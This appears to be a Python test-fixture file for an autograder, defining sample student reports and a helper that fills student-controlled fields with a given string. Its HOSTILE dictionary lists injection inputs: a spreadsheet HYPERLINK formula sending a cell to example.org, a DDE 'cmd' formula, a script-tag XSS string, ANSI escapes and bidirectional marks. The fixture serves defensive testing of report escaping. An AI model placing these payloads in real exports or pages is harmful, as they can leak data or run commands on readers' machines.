"""A class of five: right but for one function, unreadable, our own fault, nothing handed in, all right."""

from __future__ import annotations

from dataclasses import replace

from grader.comparison.verdict import Verdict
from grader.models.execution import Status
from grader.models.report import CaseResult, Header, Isolation, Report, Score
from grader.models.submission import Student

HEADER = Header(
    grader="0.1.0",
    assignment="two_functions",
    assignment_sha256="a" * 64,
    seed_sha256="b" * 64,
    python="3.11.7",
    numpy="2.4.6",
    isolation=Isolation("full", ("seccomp",), {}),
)

WRONG = Score(
    name="backward",
    points=0.0,
    max_points=10.0,
    verdict=Verdict.WRONG_VALUE,
    status=Status.RETURNED,
    credited="as_written",
    cause=None,
    message="dW is wrong in 1 of 4 elements.",
    hint="Is the 1/m missing?",
    cell=12,
    line=19,
    cases=(
        CaseResult(id="small-1", public=True, verdict=Verdict.PASSED, message="", seconds=0.0004),
        CaseResult(
            id="large-1",
            public=False,
            verdict=Verdict.WRONG_VALUE,
            message="dW is wrong in 9 of 9 elements.",
            seconds=0.0005,
        ),
    ),
    example="dZ=[[2]]: dW is [[2]], expected [[1]]",
    comments=("See page 12 <of the notes>.",),
)
RIGHT = replace(
    WRONG,
    name="model",
    points=7.5,
    max_points=7.5,
    verdict=Verdict.PASSED,
    credited="isolated",
    cause="backward",
    message="",
    hint="",
    cases=(CaseResult(id="small-1", public=True, verdict=Verdict.PASSED, message="", seconds=0.0),),
    example="",
    comments=(),
)
BLANK = replace(
    WRONG,
    verdict=Verdict.NOT_ATTEMPTED,
    status=Status.MISSING,
    message="It is not written yet.",
    cases=(),
    hint="",
    example="",
)

ADA = Student("ada", "Lovelace, Ada", "ada@x.edu", "A", {"canvas": "111", "login": "ada", "moodle": "9001"})
BOB = Student("bob", "Bob Builder", "", "A", {"canvas": "222", "sis": "u2", "moodle": "9002"})

GRADED = Report(
    id="ada",
    file="ada.ipynb",
    sha256="c" * 64,
    status="graded",
    points=7.5,
    max_points=17.5,
    seconds=0.0123456,
    notes=("Cell 3 was left out: it has a magic.",),
    exercises=(WRONG, RIGHT),
    student=ADA,
    submitted="2026-03-01T12:00:00Z",
)
UNREADABLE = replace(
    GRADED,
    id="bob",
    file="bob.ipynb",
    sha256="d" * 64,
    status="unreadable",
    points=None,
    seconds=0.001,
    notes=("bob.ipynb: it is a <web> page.",),
    exercises=(),
    student=BOB,
    submitted="",
)
FAILED = replace(
    UNREADABLE,
    id="eve",
    file="eve.ipynb",
    sha256="e" * 64,
    status="failed",
    notes=("The sandbox broke down.",),
    student=None,
)
ABSENT = replace(
    UNREADABLE,
    id="tim",
    file="",
    sha256="",
    status="not_submitted",
    seconds=0.0,
    notes=(),
    student=Student("tim", "Tim Late"),
)
FULL = replace(
    GRADED, id="zoe", points=17.5, notes=(), student=None,
    exercises=(replace(RIGHT, name="backward", points=10.0, max_points=10.0, cause=None, cases=()), RIGHT),
)  # fmt: skip

CLASS = (GRADED, UNREADABLE, FAILED, ABSENT, FULL)
UNMARKED = (UNREADABLE, FAILED)

HOSTILE = {
    "a formula": '=HYPERLINK("http://example.org?"&A1)',
    "a formula behind a tab": "\t=1+1",
    "a formula behind a line end": "\r\n@SUM(A1)",
    "a formula in full width": "＝1+1",
    "a minus": "-1+cmd|' /C calc'!A0",
    "markup": "</failure></testcase>]]><script>alert(1)</script>&amp;",
    "ANSI colours": "\x1b[31mred\x1b[0m\x00\x9b2J",
    "a lone surrogate": "a\ud800b\ufffe",
    "bidirectional marks": "a\u202egnp\u2066b",
    "scores": '{"scores": {"backward": 10, "model": 7.5}}',
    "line ends of all kinds": "a\r\nb\rc\x0bd\x85e\u2028f",
    "far too much": "x" * 100_000,
}


def filled_with(text: str) -> Report:
    """A graded report with `text` in each field that a student may have a hand in."""
    case = replace(WRONG.cases[1], message=text)
    score = replace(WRONG, message=text, hint=text, example=text, cases=(WRONG.cases[0], case))
    student = Student(text, text, text, text, {"canvas": text, "sis": text, "login": text})
    return replace(
        GRADED, file=text, notes=(text,), exercises=(score, RIGHT), student=student, submitted=text
    )
